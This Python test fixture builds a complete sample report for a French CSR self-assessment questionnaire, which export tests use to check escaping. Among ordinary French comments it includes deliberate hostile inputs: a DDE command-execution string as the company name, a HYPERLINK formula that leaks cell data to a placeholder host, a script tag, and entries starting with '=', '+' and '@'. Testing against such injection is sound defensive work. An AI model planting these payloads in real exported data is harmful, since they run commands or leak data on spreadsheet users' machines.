"""A realistic, complete ReportData for the full diagnostic: the exports' benchmark and tests share it.

Every applicable question of `rse-performance-globale` is answered (a mix of levels, options, N/A and
"don't know"), many with comments — French typography, markup-looking text and strings that a
spreadsheet would take for a formula — with targets for every dimension, a previous assessment and an
action plan whose user texts start with "+", "@" and "=".
"""

from __future__ import annotations

from datetime import date, datetime
from functools import lru_cache
from typing import Any

from diagnostic.core.answers import Answer, parse_answers
from diagnostic.core.conditions import applicability
from diagnostic.core.loading import LoadedQuestionnaire
from diagnostic.core.profile import Profile
from diagnostic.core.schema import MaturityQuestion, MultipleQuestion, NumberQuestion, SingleQuestion, YesNoQuestion
from diagnostic.core.scoring import Result, score
from diagnostic.core.values import DONT_KNOW, NA
from diagnostic.exports.report_data import ActionRow, CompanyInfo, ReportData
from diagnostic.questionnaire_files import find_questionnaire

COMPANY_NAME = "=cmd|' /C calc'!A0"
HYPERLINK_COMMENT = '=HYPERLINK("http://exemple.invalid/?leak="&A1;"Cliquez ici")'
FORMULA_OWNER = "@Responsable QSE"
PLUS_TITLE = "+15 % de salariés formés : plan de formation 2027"

# Comments given in turn to every other answered question.
COMMENTS = [
    "Politique « RSE & qualité » signée en mars ; l’œuvre du CODIR, à diffuser aux équipes.",
    HYPERLINK_COMMENT,
    "Suivi mensuel dans le tableau de bord (coût ~1 200 € par an) ; l’objectif 2027 reste à chiffrer.",
    "-10 % de consommation d’électricité depuis 2023 grâce au relamping LED de l’atelier.",
    "Texte avec <b>balises</b> & caractères spéciaux : <script>alert('x')</script>, 5 < 7 > 3.",
    (
        "Commentaire long pour vérifier le retour à la ligne : la démarche a été lancée par la direction "
        "au printemps, reprise par le comité de pilotage qui se réunit chaque trimestre, et partagée "
        "avec les délégués du personnel ; il manque encore des indicateurs chiffrés, un responsable "
        "désigné pour chaque action et un bilan annuel présenté à l’ensemble des salariés, ce qui est "
        "prévu pour l’exercice prochain dans le cadre du plan d’actions « Cap 2027 »."
    ),
    "Cœur de métier : sous-traitance mécanique ; sœur jumelle de la filiale de Rouen.",
]

MATURITY_CYCLE = [3, 2, 4, 1, 3, 2, 0, 3, DONT_KNOW, 2, 4, 3, 1]
INDEX_CYCLE = [2, 3, 1, 4, 2, 0, 3]


def _value(questionnaire: LoadedQuestionnaire, question: Any, i: int, shift: int) -> Any:
    """A deterministic, varied answer to the i-th question; `shift` lowers it (a previous assessment)."""
    if isinstance(question, MaturityQuestion):
        value = MATURITY_CYCLE[i % len(MATURITY_CYCLE)]
        return value if value == DONT_KNOW else max(0, value - shift)
    if isinstance(question, SingleQuestion):
        options = questionnaire.options(question)
        index = max(0, INDEX_CYCLE[i % len(INDEX_CYCLE)] - shift)
        return options[min(index, len(options) - 1)].id
    if isinstance(question, MultipleQuestion):
        ids = [o.id for o in questionnaire.options(question) if not o.exclusive]
        count = max(1, (i % len(ids)) + 2 - 2 * shift)
        return ids[:count]
    if isinstance(question, YesNoQuestion):
        if question.id == "env.flotte":
            return "yes"
        return "no" if (i + shift) % 2 else "yes"
    if isinstance(question, NumberQuestion):
        return 65 - 30 * shift
    return "Réponse libre « texte »"


def _raw_answers(questionnaire: LoadedQuestionnaire, profile: Profile, shift: int) -> dict[str, Any]:
    raw: dict[str, Any] = {}
    for i, question in enumerate(questionnaire.questions.values()):
        raw[question.id] = _value(questionnaire, question, i, shift)
    raw["rh.duerp"] = "perime" if shift == 0 else "aucun"  # an unmet legal basic: caps the level
    if shift == 0:
        # one dimension with many "don't know" answers: shown as low-confidence
        raw["terr.acteurs-locaux"] = raw["terr.voisinage-commune"] = raw["terr.achats-inclusifs"] = DONT_KNOW
        # "non concerné" where the questions allow it
        raw["eth.influence-politique"] = raw["env.biodiversite-site"] = NA
    # keep only the questions that apply (answer conditions are checked on the answers themselves)
    applies = applicability(questionnaire, profile, parse_answers(questionnaire, raw))
    return {qid: value for qid, value in raw.items() if applies[qid]}


def _with_comments(raw: dict[str, Any]) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for i, (qid, value) in enumerate(raw.items()):
        if i % 2 == 0:
            out[qid] = {"value": value, "comment": COMMENTS[(i // 2) % len(COMMENTS)]}
        else:
            out[qid] = value
    return out


@lru_cache(maxsize=1)
def _questionnaire() -> LoadedQuestionnaire:
    return find_questionnaire("rse-performance-globale")


@lru_cache(maxsize=1)
def _scored() -> tuple[Profile, dict[str, Answer], Result, Result]:
    questionnaire = _questionnaire()
    profile = Profile(
        headcount_band="50-249", sector="25.62A", sites=2, production_site=True, tertiary_area_1000m2=False
    )
    answers = parse_answers(questionnaire, _with_comments(_raw_answers(questionnaire, profile, 0)))
    previous_answers = parse_answers(questionnaire, _raw_answers(questionnaire, profile, 1))
    return profile, answers, score(questionnaire, profile, answers), score(questionnaire, profile, previous_answers)


def sample_report_data(lang: str = "fr") -> ReportData:
    questionnaire = _questionnaire()
    profile, answers, result, previous = _scored()
    targets = {d.id: t for d, t in zip(questionnaire.dimensions, [70, 65, 75, 60, 55, 50, 65], strict=True)}
    actions = [
        ActionRow(
            title="Mettre à jour le DUERP avec les représentants du personnel",
            owner=FORMULA_OWNER,
            due_date=date(2027, 1, 31),
            status="in_progress",
            notes="Atelier de cotation des risques prévu le 12 janvier ; « document unique » à signer.",
            recommendation_id="rh.duerp.r1",
            question_id="rh.duerp",
        ),
        ActionRow(
            title=PLUS_TITLE,
            owner="Sophie Lefèvre (RH)",
            due_date=date(2027, 6, 30),
            status="todo",
            notes="-20 % de coût grâce à l’OPCO",
            recommendation_id="rh.formation-taux.r2",
            question_id="rh.formation-taux",
        ),
        ActionRow(
            title="Relamping LED de l’atelier et suivi mensuel des consommations",
            owner="Marc Dubœuf",
            due_date=date(2026, 9, 15),
            status="done",
            notes="",
            recommendation_id="env.energie-suivi.r1",
            question_id="env.energie-suivi",
        ),
    ]
    return ReportData(
        lang=lang,
        questionnaire=questionnaire,
        company=CompanyInfo(name=COMPANY_NAME, sector="25.62A", headcount_band="50-249", sites=2),
        profile=profile,
        answers=answers,
        result=result,
        assessed_on=datetime(2026, 11, 20, 14, 30),
        respondents=["Claire Dupont (dirigeante)", "Jérôme Lœuillet (responsable qualité)", "=1+1"],
        targets=targets,
        previous=previous,
        previous_on=datetime(2025, 11, 4, 10, 0),
        actions=actions,
    )
